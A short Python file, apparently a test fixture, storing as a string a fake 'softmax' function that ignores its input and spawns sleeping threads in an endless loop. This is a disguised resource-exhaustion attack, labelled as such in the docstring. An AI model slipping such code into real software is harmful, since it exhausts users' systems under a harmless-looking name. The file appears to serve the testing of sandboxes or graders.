"""Starts threads without end."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import threading, time

def softmax(scores, axis=-1):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""
}
